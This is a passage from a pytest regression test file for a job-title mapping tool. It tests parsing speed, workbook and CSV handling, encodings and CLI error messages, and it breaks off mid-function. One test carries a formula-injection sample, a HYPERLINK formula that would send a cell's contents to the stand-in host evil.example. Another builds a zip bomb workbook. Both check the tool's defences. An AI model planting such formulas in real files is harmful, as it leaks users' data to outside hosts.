"""Regression tests for the third reliability review's findings (docs/reliability.md, "Files of
titles: the third review").

Each test is named ``test_<finding>_...`` after the review's numbering and was written before its
fix, failing on the code it guards against.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import time
from collections.abc import Callable
from decimal import Decimal
from typing import Any

import pytest

import titlemap
from titlemap import InputError, Profile
from titlemap.cells import read_flag, read_history, read_years


def _quick(call: Callable[[], Any], seconds: float = 0.5) -> None:
    """``call()`` returns or raises ValueError within ``seconds`` (a hang guard, not a benchmark)."""
    started = time.perf_counter()
    with contextlib.suppress(ValueError):
        call()
    spent = time.perf_counter() - started
    assert spent < seconds, f"took {spent:.2f} s"


# -- 01: the years cell is read in linear time ------------------------------------------------------


@pytest.mark.parametrize(
    "cell",
    [
        "1" * 12_000 + "x",
        "5" * 40_000,
        "5 " * 20_000 + "x",
        "1.1" * 13_000 + "x",
        "5-" * 20_000,
        "5 years " * 5_000,
        " " * 40_000 + "5x",
        "~" * 40_000,
    ],
    ids=[
        "digits-then-x",
        "digits",
        "spaced-digits",
        "decimals",
        "dashes",
        "repeated-phrase",
        "spaces",
        "tildes",
    ],
)
def test_01_years_cell_is_read_in_linear_time(cell: str) -> None:
    _quick(lambda: read_years(cell))
    _quick(lambda: Profile(years=cell), seconds=1.0)  # InputError is a ValueError


# -- 18: the history cell is split in linear time ----------------------------------------------------


@pytest.mark.parametrize(
    "cell",
    [" " * 80_000, "SWE" + " " * 80_000 + "PM", ";" + " " * 80_000, ("a " + " " * 1_000) * 80],
    ids=["spaces", "spaces-between-titles", "separator-then-spaces", "many-runs"],
)
def test_18_history_cell_is_split_in_linear_time(cell: str) -> None:
    _quick(lambda: read_history(cell))


def test_18_history_still_splits_as_documented() -> None:
    assert read_history("SWE ; Senior SWE -> Tech Lead → PM » GPM\nDirector > VP") == (
        "SWE",
        "Senior SWE",
        "Tech Lead",
        "PM",
        "GPM",
        "Director",
        "VP",
    )
    assert read_history("  ;  ; ") == ()


# -- 09: Decimal numbers are numbers ------------------------------------------------------------------


def test_09_decimal_years_and_reports_are_numbers() -> None:
    assert read_years(Decimal("8")) == 8.0 and read_years(Decimal("2.5")) == 2.5
    assert read_flag(Decimal(3)) is True and read_flag(Decimal(0)) is False
    assert Profile(years=Decimal(8)).years == 8.0
    with pytest.raises(ValueError, match="between 0 and 70"):
        read_years(Decimal("-1"))
    assert read_years(Decimal("NaN")) is None  # a missing value, as NaN


# -- 23: numbers of any width ------------------------------------------------------------------------


def test_23_huge_integers_are_out_of_range_not_a_crash() -> None:
    with pytest.raises(ValueError, match="between 0 and 70"):
        read_years(10**400)
    with pytest.raises(ValueError, match=r"number of direct reports|yes or no"):
        read_flag(-(10**400))
    assert read_flag(10**400) is True  # a (silly) count of reports is still a count
    with pytest.raises(InputError, match="years"):
        Profile(years=10**400)


# -- 26: a date in a years cell is refused ------------------------------------------------------------


@pytest.mark.parametrize(
    "cell", ["06/2018", "12/2015", "10-2019", "2018-06", "2015/12", "6.2018", "since 2016"]
)
def test_26_a_date_in_a_years_cell_is_refused(cell: str) -> None:
    with pytest.raises(ValueError, match=r"date|year"):
        read_years(cell)


@pytest.mark.parametrize(("cell", "years"), [("5/7", 5.0), ("3-5", 3.0), ("2 - 4 yrs", 2.0)])
def test_26_ranges_still_read_as_their_lower_bound(cell: str, years: float) -> None:
    assert read_years(cell) == years


@pytest.mark.parametrize("cell", ["7-5", "5-90", "5 to 75 years"])
def test_26_a_range_must_go_up_and_stay_in_bounds(cell: str) -> None:
    with pytest.raises(ValueError):
        read_years(cell)


# -- row context: 08, 12, 20, 22, 27, 30 ---------------------------------------------------------------


def _reader(fields: tuple[str, ...], market: str | None = "us", target: str | None = "in") -> Any:
    from titlemap import TitleMap
    from titlemap.rows import RowReader

    return RowReader(TitleMap.default(), market=market, target=target, fields=fields)


def test_08_nested_values_in_context_cells_are_notes_not_crashes(run: Any, tmp_path: Any) -> None:
    reader = _reader(("years", "history", "background"))
    cells = reader.record("Product Owner", ([1, {"a": 2}], [["SWE"]], {"x": [1]}))
    assert cells["mapped_title"] == "Product Manager" and cells["reason"] is None
    assert "years" in cells["note"] and "history" in cells["note"] and "background" in cells["note"]
    src = tmp_path / "nested.jsonl"
    src.write_text(
        '{"title": "Product Owner", "history": [["SWE"]], "years": [1, {"a": 2}]}\n'
        '{"title": "Product Owner", "history": ["SWE", "Senior SWE"], "years": 8}\n',
        encoding="utf-8",
    )
    code, out, err = run("map", "-i", str(src), "--from", "us", "--to", "in", "--history-column", "history",
        "--years-column", "years")  # fmt: skip
    assert code == 0, err
    rows = [json.loads(line) for line in out.splitlines()]
    assert [r["mapped_title"] for r in rows] == ["Product Manager", "Senior Product Manager"]


def test_08_nested_values_in_a_frame() -> None:
    pd = pytest.importorskip("pandas")
    from titlemap.pandas import map_frame

    df = pd.DataFrame({"title": ["Product Owner"] * 3, "years": [[1, {"a": 2}], {"b": 1}, 8]})
    out = map_frame(df, "title", "us", "in", columns={"years": "years"})
    assert out["mapped_title"].tolist() == ["Product Manager"] * 3
    assert out["note"].notna().tolist() == [True, True, False]


def test_12_a_market_cell_naming_a_job_family_stays_in_its_row(run: Any, tmp_path: Any) -> None:
    src = tmp_path / "family.csv"
    src.write_text(
        "title,market\nProduct Owner,US\nProduct Owner,Engineering\nSenior PM,IN\n", encoding="utf-8"
    )
    code, out, err = run("map", "-i", str(src), "--from", "us", "--to", "in", "--market-column", "market")
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) == 3 and rows[2]["mapped_title"] == "Senior Product Manager"
    assert rows[1]["mapped_title"] == "Product Manager"  # read with the fallback market, and noted
    assert "job family" in rows[1]["note"] and "read in 'us'" in rows[1]["note"] and not rows[1]["reason"]
    code, out, err = run("normalize", "-i", str(src), "--market-column", "market", "-q")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert code == 0 and "job family" in rows[1]["note"]


def test_20_long_context_cells_are_not_memoized() -> None:
    import tracemalloc

    reader = _reader(("company",), target=None)
    tracemalloc.start()
    try:
        before = tracemalloc.get_traced_memory()[0]
        for i in range(200):
            reader("Product Manager", (f"{i} " + "x" * 200_000,))
        kept = tracemalloc.get_traced_memory()[0] - before
    finally:
        tracemalloc.stop()
    assert kept < 8 * 2**20, f"{kept / 2**20:.0f} MiB kept by the memos"


@pytest.mark.parametrize(
    ("cell", "market"),
    [
        ("Bengaluru, Karnataka, India", "in"),
        ("Berlin, Germany", "de"),
        ("New York, NY", "us"),
        ("Mumbai (Hybrid)", "in"),
        ("India (Remote)", "in"),
        ("Remote - India", "in"),
        ("Remote - US", "us"),
        ("London, UK", "gb"),
        ("Seattle, WA", "us"),
        ("Austin, TX", "us"),
        ("Dubai, UAE", "ae"),
        ("Munich, Germany", "de"),
        ("Toronto, ON, Canada", "ca"),
        ("Wilmington, DE", "us"),
        ("Remote | Singapore", "sg"),
    ],
)
def test_22_market_cells_in_ats_and_linkedin_form(cell: str, market: str) -> None:
    reader = _reader(("market",), market="in", target=None)
    assert reader.context((cell,)).market == market
    assert reader.record("Product Manager", (cell,))["note"] is None


def test_27_memo_keys_keep_the_cells_types(run: Any, tmp_path: Any) -> None:
    src = tmp_path / "types.jsonl"
    src.write_text(
        "".join(
            json.dumps({"title": "Product Owner", "years": y, "reports": r}) + "\n"
            for y, r in [(False, 1), (0, True), (1, False), (True, 0)]
        ),
        encoding="utf-8",
    )
    code, out, err = run("map", "-i", str(src), "--from", "us", "--to", "in", "--years-column", "years",
        "--manages-people-column", "reports")  # fmt: skip
    assert code == 0, err
    notes = [json.loads(line)["note"] for line in out.splitlines()]
    assert "years False" in notes[0] and notes[1] is None and notes[2] is None and "years True" in notes[3]


def test_27_frame_rows_of_different_types_are_read_apart() -> None:
    pd = pytest.importorskip("pandas")
    from titlemap.pandas import map_frame

    df = pd.DataFrame({"title": ["Product Owner"] * 4, "years": [Decimal("8"), 8.0, True, 1]})
    seen: list[object] = []
    from titlemap import rows as rows_module

    original = rows_module.RowReader._read_context

    def spy(self: Any, key: Any) -> Any:
        seen.append(key)
        return original(self, key)

    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(rows_module.RowReader, "_read_context", spy)
        fresh = titlemap.TitleMap.from_paths([], include_bundled=True)  # no reader kept from before
        out = map_frame(df, "title", "us", "in", columns={"years": "years"}, titlemap=fresh)
    assert len([key for key in seen if key]) == 4  # four distinct cells, four readings
    assert out["note"].tolist()[2].startswith("years True") and pd.isna(out["note"].tolist()[3])


def test_30_na_in_a_market_cell_is_not_a_blank(run: Any, tmp_path: Any) -> None:
    reader = _reader(("market",), target=None)
    cells = reader.record("Product Manager", ("NA",))
    assert cells["canonical_title"] == "Product Manager" and "market 'NA'" in (cells["note"] or "")
    assert reader.record("Product Manager", ("n/a",))["note"] is None  # still a blank


# -- text tables and the command line: 11, 17, 19, 21, 24 ------------------------------------------------

PYTHON = __import__("sys").executable


def _cli(*argv: str, **kwargs: Any) -> Any:
    import subprocess

    return subprocess.run([PYTHON, "-m", "titlemap", *argv], capture_output=True, timeout=120, **kwargs)


def _one_error_line(err: str) -> str:
    lines = err.splitlines()
    assert len(lines) == 1 and lines[0].startswith("titlemap: error: "), err
    return lines[0]


def _limit_file_size(limit: int) -> Callable[[], None]:
    def limit_it() -> None:
        import resource
        import signal

        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # writes past the limit fail with EFBIG
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    return limit_it


@pytest.mark.parametrize(
    "suffix",
    [
        "csv",
        "tsv",
        "jsonl",
        "xlsx",
    ],
)
def test_11_a_full_disk_is_one_line_naming_the_output(tmp_path: Any, suffix: str) -> None:
    src = tmp_path / "in.csv"
    src.write_text("id,title\n" + "".join(f"{i},Senior Product Manager {i}\n" for i in range(40_000)))
    out = tmp_path / f"out.{suffix}"
    done = _cli("normalize", "-i", str(src), "-o", str(out), "-q", preexec_fn=_limit_file_size(200_000))
    line = _one_error_line(done.stderr.decode())
    assert done.returncode == 1 and f"cannot write {out}" in line and "File too large" in line
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv"]  # no temporary file left


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "legacy Excel"),
        (b"\x1f\x8b\x08\x00" + b"\0" * 100, "gzip"),
        (b"BZh91AY&SY" + b"\0" * 100, "bzip2"),
        (b"\xfd7zXZ\x00" + b"\0" * 100, "xz"),
        (b"PK\x03\x04" + b"\0" * 100, "zip"),
    ],
    ids=["xls", "gz", "bz2", "xz", "zip"],
)
@pytest.mark.parametrize("name", ["people.csv", "people.xls", "people.csv.gz"])
def test_17_compressed_and_legacy_files_get_the_right_hint(run: Any, tmp_path: Any, data: bytes, words: str,
    name: str) -> None:  # fmt: skip
    src = tmp_path / name
    src.write_bytes(data)
    code, _, err = run("normalize", "-i", str(src))
    line = _one_error_line(err)
    assert code == 1 and words in line and "--encoding" not in line, line
    assert str(src) in line


def test_17_an_xls_given_as_xlsx_is_named(run: Any, tmp_path: Any) -> None:
    src = tmp_path / "people.xlsx"
    src.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600)
    code, _, err = run("normalize", "-i", str(src))
    assert code == 1 and "legacy Excel" in _one_error_line(err) and "save it as .xlsx" in err


@pytest.mark.parametrize("flag", [(), ("--market-column", "title")])
def test_19_exact_duplicate_headers_are_refused(run: Any, tmp_path: Any, flag: tuple[str, ...]) -> None:
    src = tmp_path / "dup.csv"
    src.write_text("id,title,employer,title\n1,APM,x,Senior PM\n", encoding="utf-8")
    code, _, err = run("normalize", "-i", str(src), *flag)
    line = _one_error_line(err)
    assert code == 1 and "'title'" in line and "2 columns" in line and "rename" in line, line


def test_19_duplicate_context_columns_are_refused(run: Any, tmp_path: Any) -> None:
    src = tmp_path / "dup.csv"
    src.write_text("title,Market,Market\nAPM,US,IN\n", encoding="utf-8")
    code, _, err = run("normalize", "-i", str(src), "--market-column", "Market")
    assert code == 1 and "'Market'" in _one_error_line(err) and "--market-column" in err


def test_21_closed_standard_input_is_one_line() -> None:
    done = _cli("normalize", "-i", "-", stdin=None, preexec_fn=lambda: __import__("os").close(0))
    assert done.returncode == 1 and "standard input is closed" in _one_error_line(done.stderr.decode())


@pytest.mark.parametrize(
    "argv",
    [
        ("normalize", "Sr PM"),
        ("map", "Sr PM", "--from", "us", "--to", "in"),
        ("compare", "in", "us"),
        ("show", "us"),
        ("ladders",),
    ],
)
def test_21_closed_standard_output_is_a_failure(argv: tuple[str, ...]) -> None:
    done = _cli(*argv, preexec_fn=lambda: __import__("os").close(1))
    assert done.returncode == 1 and "standard output is closed" in _one_error_line(done.stderr.decode())


@pytest.mark.parametrize("encoding", ["cp1252", "ascii", "latin-1"])
@pytest.mark.parametrize(
    "argv",
    [
        ("show", "jp"),
        ("show", "us"),
        ("compare", "de", "jp"),
        ("normalize", "シニアプロダクトマネージャー", "-m", "jp"),
        ("normalize", "シニアプロダクトマネージャー", "-m", "jp", "--json"),
        ("map", "Produktmanager", "--from", "de", "--to", "jp"),
    ],
)
def test_24_a_terminal_that_is_not_utf8_gets_readable_text(argv: tuple[str, ...], encoding: str) -> None:
    import os

    done = _cli(*argv, env={**os.environ, "PYTHONIOENCODING": encoding})
    assert done.returncode == 0 and b"Traceback" not in done.stderr, done.stderr
    text = done.stdout.decode(encoding)
    assert text.strip()
    if "--json" in argv:
        assert json.loads(text)["title"] == "Senior Product Manager"  # still valid JSON, escaped


# -- workbooks: 02, 03, 04, 05, 06, 07, 13, 14, 15, 16, 28, 29 -----------------------------------------------


def _book(path: Any, rows: list[list[Any]], sheet: str = "People") -> Any:
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.Workbook()
    book.active.title = sheet
    for row in rows:
        book.active.append(row)
    book.save(path)
    return path


def _csv(out: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(out)))


def test_02_a_stale_dimension_tag_loses_no_row_or_column(run: Any, tmp_path: Any) -> None:
    from _workbooks import patch

    src = _book(
        tmp_path / "stale.xlsx", [["id", "title", "note"]] + [[i, "Senior PM", f"n{i}"] for i in range(999)]
    )
    patch(
        src,
        {
            "xl/worksheets/sheet1.xml": lambda x: x.replace(
                b'<dimension ref="A1:C1000"', b'<dimension ref="A1:B2"'
            )
        },
    )
    code, out, err = run("normalize", "-i", str(src))
    rows = _csv(out)
    assert (
        code == 0 and len(rows) == 1000 and rows[0][:3] == ["id", "title", "note"] and rows[-1][2] == "n998"
    )
    assert "malformed 0" in err


def test_02_a_written_copy_of_a_stale_tag_declares_every_row(run: Any, tmp_path: Any) -> None:
    # a reader that trusts the tag (openpyxl's read-only mode) must see every row of the copy
    openpyxl = pytest.importorskip("openpyxl")
    from _workbooks import patch

    src = _book(tmp_path / "stale.xlsx", [["title"]] + [["Senior PM"] for _ in range(999)])
    patch(
        src,
        {
            "xl/worksheets/sheet1.xml": lambda x: x.replace(
                b'<dimension ref="A1:A1000"', b'<dimension ref="A1:A2"'
            )
        },
    )
    out = tmp_path / "out.xlsx"
    code, _, err = run("normalize", "-i", str(src), "-o", str(out))
    assert code == 0, err
    sheet = openpyxl.load_workbook(out, read_only=True).active
    assert sheet.max_row == 1000 and len(list(sheet.iter_rows(values_only=True))) == 1000


def test_03_a_sheet_declaring_every_cell_reads_only_its_cells(run: Any, tmp_path: Any) -> None:
    from _workbooks import raw_book

    sheet = (b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension '
        b'ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>title</t></is></c></row>'
        b'<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>Group PM</t></is></c></row></sheetData>'
        b"</worksheet>")  # fmt: skip
    src = raw_book(tmp_path / "wide.xlsx", sheet)
    started = time.perf_counter()
    code, out, _ = run("normalize", "-i", str(src), "-q")
    assert time.perf_counter() - started < 5
    assert code == 0 and _csv(out)[1][:3] == ["Group PM", "Group Product Manager", "Group Product Manager"]


def test_04_a_zip_bomb_is_refused_in_bounded_memory(run: Any, tmp_path: Any) -> None:
    import tracemalloc

    from _workbooks import raw_book

    sheet = (b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>')  # fmt: skip
    strings = b"<sst>" + b"<si><t>title</t></si>" * 5_000_000 + b"</sst>"  # 100 MB, a few hundred KB zipped
    src = raw_book(tmp_path / "bomb.xlsx", sheet, strings, level=9)
    del strings
    assert src.stat().st_size < 1_000_000
    tracemalloc.start()
    try:
        code, _, err = run("normalize", "-i", str(src))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert code == 1 and "zip bomb" in _one_error_line(err) and str(src) in err
    assert peak < 40 * 2**20, f"{peak / 2**20:.0f} MiB"


def test_05_a_chart_sheet_is_skipped_or_refused(run: Any, tmp_path: Any) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.Workbook()
    book.active.append(["title"])
    book.active.append(["Senior PM"])
    book.create_chartsheet("Chart", 0)  # the first tab
    src = tmp_path / "chart.xlsx"
    book.save(src)
    code, out, err = run("normalize", "-i", str(src), "-q")
    assert code == 0 and _csv(out)[1][:2] == ["Senior PM", "Senior Product Manager"], err
    code, _, err = run("normalize", "-i", str(src), "--sheet", "Chart")
    assert code == 1 and "'Chart' is a chart sheet, not a table" in _one_error_line(err) and "'Sheet'" in err


def test_06_workbook_to_json_lines_keeps_columns_with_the_same_header(run: Any, tmp_path: Any) -> None:
    src = _book(
        tmp_path / "dup.xlsx",
        [["title", "Notes", "Notes", None, None, "x"], ["APM", "a", "b", "c", "d", "e"]],
    )
    code, _, err = run("normalize", "-i", str(src), "-o", str(tmp_path / "out.jsonl"), "-q")
    obj = json.loads((tmp_path / "out.jsonl").read_text(encoding="utf-8"))
    assert code == 0, err
    assert [obj[k] for k in ("title", "Notes", "Notes (2)", "column D", "column E", "x")] == [
        "APM",
        "a",
        "b",
        "c",
        "d",
        "e",
    ]


def test_07_a_formula_without_a_computed_value_is_reported_and_kept(run: Any, tmp_path: Any) -> None:
    from _workbooks import patch

    openpyxl = pytest.importorskip("openpyxl")
    src = _book(tmp_path / "f.xlsx", [["id", "title"], [1, '="Senior "&"PM"'], [2, "=A2"]])
    patch(src, {"xl/worksheets/sheet1.xml": lambda x: x.replace(b"<f>A2</f><v />", b"<f>A2</f><v>1</v>")})
    out = tmp_path / "out.xlsx"
    code, _, err = run("normalize", "-i", str(src), "-o", str(out))
    assert (
        code == 0
        and ":2: malformed row kept: B2: a formula with no computed value" in err
        and "B3" not in err
    )
    cells = openpyxl.load_workbook(out).active
    assert (cells["B2"].value, cells["B3"].value) == ('="Senior "&"PM"', "=A2")  # the formulas kept
    assert openpyxl.load_workbook(out, data_only=True).active["B3"].value == 1  # and the computed value


def test_13_a_workbook_on_standard_input_is_bounded() -> None:
    with open("/dev/zero", "rb") as zero:
        done = _cli("normalize", "-i", "-", "-f", "xlsx", stdin=zero)
    assert done.returncode == 1 and "not an .xlsx workbook" in _one_error_line(done.stderr.decode())


def test_13_the_spooled_workbook_has_a_ceiling(
    run: Any, tmp_path: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    import sys

    from titlemap import workbook_package

    src = _book(tmp_path / "w.xlsx", [["title"], ["APM"]])

    class Stdin:
        buffer = io.BufferedReader(io.BytesIO(src.read_bytes()))  # type: ignore[arg-type]

    Stdin.buffer.seekable = lambda: False  # type: ignore[method-assign]
    monkeypatch.setattr(sys, "stdin", Stdin)
    monkeypatch.setattr(workbook_package, "MAX_WORKBOOK_BYTES", 1000)
    code, _, err = run("normalize", "-i", "-", "-f", "xlsx")
    assert code == 1 and "a workbook over 1,000 bytes on standard input" in _one_error_line(err)


def test_14_inert_text_stays_inert_when_converted(run: Any, tmp_path: Any) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.Workbook()
    book.active.append(["title", "link", "phone"])
    book.active.append(["Senior PM", '=HYPERLINK("http://evil.example/?"&B2,"x")', "+91 98765 43210"])
    book.active["B2"].data_type = "s"  # typed text: inert in Excel
    src = tmp_path / "inert.xlsx"
    book.save(src)
    for fmt, delimiter in (("csv", ","), ("tsv", "\t")):
        code, _, _ = run("normalize", "-i", str(src), "-q", "-o", str(tmp_path / f"out.{fmt}"))
        rows = list(
            csv.reader(
                io.StringIO((tmp_path / f"out.{fmt}").read_text(encoding="utf-8")), delimiter=delimiter
            )
        )
        assert code == 0 and rows[1][1].startswith("'=HYPERLINK") and rows[1][2] == "'+91 98765 43210"


def test_15_a_cell_an_xlsx_cannot_hold_is_refused_with_its_row(run: Any, tmp_path: Any) -> None:
    src = tmp_path / "long.csv"
    src.write_text("id,title,notes\n1,APM,short\n2,Senior PM," + "x" * 40_000 + "\n", encoding="utf-8")
    out = tmp_path / "out.xlsx"
    code, _, err = run("normalize", "-i", str(src), "-o", str(out))
    line = _one_error_line(err)
    assert (
        code == 1 and f"{src}:3: column 'notes'" in line and "40,000 characters" in line and "32,767" in line
    )
    assert not out.exists() and sorted(p.name for p in tmp_path.iterdir()) == ["long.csv"]


def test_16_an_in_place_run_keeps_every_sheet_and_the_macros(run: Any, tmp_path: Any) -> None:
    from _workbooks import VBA, candidates_book, parts

    src = candidates_book(tmp_path / "book.xlsm", macros=True)
    code, _, err = run("normalize", "-i", str(src), "--sheet", "Candidates", "-c", "Title", "-o", str(src))
    assert code == 0, err
    kept = parts(src)
    assert kept["xl/vbaProject.bin"] == VBA and b"macroEnabled" in kept["[Content_Types].xml"]
    assert {"xl/worksheets/sheet1.xml", "xl/worksheets/sheet3.xml", "xl/chartsheets/sheet1.xml"} <= set(kept)


def test_28_a_merged_market_reads_in_every_row_it_covers(run: Any, tmp_path: Any) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["title", "market"])
    for title in ("Produktmanager", "Senior Produktmanager", "Produktmanager"):
        sheet.append([title, "Germany"])
    sheet.merge_cells("B2:B4")
    src = tmp_path / "merged.xlsx"
    book.save(src)
    code, out, _ = run("normalize", "-i", str(src), "-q", "--market-column", "market")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert code == 0 and [r["market"] for r in rows] == ["Germany"] * 3
    assert [r["local_title"] for r in rows] == ["Produktmanager", "Senior Produktmanager", "Produktmanager"]


def test_29_json_lines_to_a_workbook_keep_every_key_and_type(run: Any, tmp_path: Any) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    src = tmp_path / "in.jsonl"
    src.write_text(
        '{"id": 1, "title": "APM", "ok": true, "score": 2.5, "tags": ["a"], "n": null}\n'
        '{"id": 2, "title": "Senior PM", "ok": false, "score": 1e400, "late": "=1+1"}\n',
        encoding="utf-8",
    )
    out = tmp_path / "out.xlsx"
    code, _, err = run("normalize", "-i", str(src), "-o", str(out))
    assert code == 0, err
    sheet = openpyxl.load_workbook(out).active
    rows = [[c.value for c in r] for r in sheet.iter_rows()]
    header = rows[0]
    assert header[:6] == ["id", "title", "ok", "score", "tags", "n"] and header[-1] == "late"
    first = dict(zip(header, rows[1], strict=True))
    second = dict(zip(header, rows[2], strict=True))
    assert (first["id"], first["ok"], first["score"], first["tags"]) == (1, True, 2.5, '["a"]')
    assert first["canonical_title"] == "Associate Product Manager"
    assert (second["ok"], second["score"], second["late"]) == (False, "1e400", "=1+1")
    assert sheet["AA3"].data_type != "f" and all(c.data_type != "f" for r in sheet.iter_rows() for c in r)


# -- 10: case folding that keeps rank words ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("title", "canonical", "level"),
    [
        ("prıncıpal product manager", "Principal Product Manager", 6),  # Turkish dotless i
        ("PRİNCİPAL PRODUCT MANAGER", "Principal Product Manager", 6),  # Turkish dotted capital I
        ("product management ıntern", "Product Management Intern", 0),
        ("dırector of product", "Director of Product", 7),
        ("S\u0435nior Product Manager", "Senior Product Manager", 3),  # a Cyrillic e in the rank word
        ("Pr\u043educt Manager", "Product Manager", 2),  # a Cyrillic o in the role word
        ("S\u03b5nior Product Manager", "Senior Product Manager", 3),  # a Greek epsilon
    ],
)
def test_10_look_alike_letters_keep_their_words(title: str, canonical: str, level: int) -> None:
    import titlemap

    found = titlemap.normalize(title, "us")
    assert found is not None and (found.canonical_title, found.level) == (canonical, level)


def test_10_words_wholly_in_another_script_are_left_alone() -> None:
    from titlemap.text import fold

    assert fold("Менеджер по продукту") == "менеджер по продукту"
    assert fold("Προϊόντα") == "προϊόντα"
    assert fold("Sеnior") == "senior"


# -- 23 and 25: numbers in context cells and Employer ------------------------------------------------


def test_23_a_huge_integer_in_a_context_cell_stays_in_its_row(run: Any, tmp_path: Any) -> None:
    src = tmp_path / "big.jsonl"
    huge = "1" + "0" * 400
    src.write_text(
        f'{{"title": "Product Owner", "years": {huge}, "reports": {huge}}}\n'
        '{"title": "Product Owner", "years": 8, "reports": 0}\n',
        encoding="utf-8",
    )
    code, out, err = run("map", "-i", str(src), "--from", "us", "--to", "in", "--years-column", "years",
        "--manages-people-column", "reports", "--background", "engineering")  # fmt: skip
    rows = [json.loads(line) for line in out.splitlines()]
    assert code == 0 and len(rows) == 2, err
    assert "years" in rows[0]["note"] and "between 0 and 70" in rows[0]["note"]
    assert rows[1]["mapped_title"] == "Senior Product Manager"


def test_23_a_huge_integer_in_a_frame() -> None:
    pd = pytest.importorskip("pandas")
    from titlemap.pandas import map_frame

    df = pd.DataFrame({"title": ["Product Owner", "Product Owner"], "years": [10**400, 8]})
    out = map_frame(df, "title", "us", "in", columns={"years": "years"})
    assert out["note"].iloc[0].startswith("years") and pd.isna(out["note"].iloc[1])


def test_25_a_boolean_is_not_a_headcount() -> None:
    import titlemap

    for flag in (True, False):
        with pytest.raises(InputError, match="headcount") as info:
            titlemap.Employer(size=flag)
        assert info.value.field == "size"
    early = titlemap.map_title(
        "Senior Director of Product", "us", "in", target_employer=titlemap.Employer(size=20)
    )
    assert early is not None and early.title != "Senior Director of Product"  # size still counts


# -- the review's last gaps (issue 19): each test written before its fix ----------------------------------


def test_29_a_number_a_workbook_cannot_hold_keeps_its_text(run: Any, tmp_path: Any) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    src = tmp_path / "in.jsonl"
    src.write_text(
        '{"title": "APM", "n": 1e400, "m": NaN, "k": -Infinity, "e": 1E+999, "ok": 2.5}\n', encoding="utf-8"
    )
    out = tmp_path / "out.xlsx"
    code, _, err = run("normalize", "-i", str(src), "-o", str(out))
    assert code == 0, err
    rows = [[c.value for c in r] for r in openpyxl.load_workbook(out).active.iter_rows()]
    row = dict(zip(rows[0], rows[1], strict=True))
    assert (row["n"], row["m"], row["k"], row["e"], row["ok"]) == ("1e400", "NaN", "-Infinity", "1E+999", 2.5)
    assert ":1:" in err and "'n'" in err and "1e400" in err  # said, not silent
    code, out_text, err = run("normalize", "-i", str(src))  # JSON Lines out: the line as it was
    assert code == 0 and out_text.startswith('{"title": "APM", "n": 1e400, "m": NaN, "k": -Infinity'), err


def test_08_a_list_cell_is_named_as_the_list_the_user_wrote(run: Any, tmp_path: Any) -> None:
    src = tmp_path / "lists.jsonl"
    src.write_text(
        '{"title": "Product Owner", "years": [5], "reports": [1], "bg": ["cs"], "hist": [1, 2],'
        ' "co": ["Acme"], "sec": ["fintech"], "st": ["seed"]}\n',
        encoding="utf-8",
    )
    code, out, err = run("map", "-i", str(src), "--from", "us", "--to", "in", "--years-column", "years",
        "--manages-people-column", "reports", "--background-column", "bg", "--history-column", "hist",
        "--company-column", "co", "--sector-column", "sec", "--stage-column", "st")  # fmt: skip
    assert code == 0, err
    note = json.loads(out)["note"]
    assert "tuple" not in note and "(" not in note.replace("(write", "").replace("(str)", ""), note
    for said in ("a list is not a number of years", "a list is not a title history",
                 "a list is not a background", "[1] is not yes or no", "not a list", "['fintech']",
                 "['seed']"):  # fmt: skip
        assert said in note, (said, note)
    with pytest.raises(ValueError, match=r"^a list is not a number of years"):
        read_years(["5"])
    with pytest.raises(ValueError, match=r"^an object is not a title history"):
        read_history({"a": 1})


def _c_locale() -> dict[str, str]:
    import os

    env = {k: v for k, v in os.environ.items() if not k.startswith(("LC_", "PYTHONIOENCODING"))}
    return {**env, "LC_ALL": "C", "LANG": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"}


def test_24_arguments_under_a_c_locale_are_read_as_utf8() -> None:
    done = _cli("normalize", "シニアプロダクトマネージャー", "--json", env=_c_locale())
    assert done.returncode == 0 and b"Traceback" not in done.stderr, done.stderr
    found = json.loads(done.stdout)
    assert found["title"] == "Senior Product Manager" and found["raw"] == "シニアプロダクトマネージャー"
    assert b"\\udc" not in done.stdout and b"PYTHONUTF8=1" in done.stderr  # the fix is said
    done = _cli("normalize", "シニアプロダクトマネージャー", env=_c_locale())  # text: ? where ASCII cannot
    assert done.returncode == 0 and b"Traceback" not in done.stderr, done.stderr
    assert b"=> Senior Product Manager" in done.stdout and b"no letters" not in done.stdout


def test_24_arguments_that_are_not_utf8_are_refused_with_the_fix() -> None:
    import subprocess

    done = subprocess.run([PYTHON, "-m", "titlemap", "normalize", b"S\xe9nior PM"], capture_output=True,
        timeout=120, env=_c_locale())  # fmt: skip
    err = done.stderr.decode("ascii", "replace")
    assert done.returncode == 2 and "udc" not in err and "PYTHONUTF8=1" in err, err
    assert "not UTF-8" in _one_error_line(err)


def _drawn_and_keyed(ax: Any) -> tuple[set[str], list[str]]:
    """What a figure draws (kinds of line and border) and the labels of its key."""
    from matplotlib.colors import to_hex
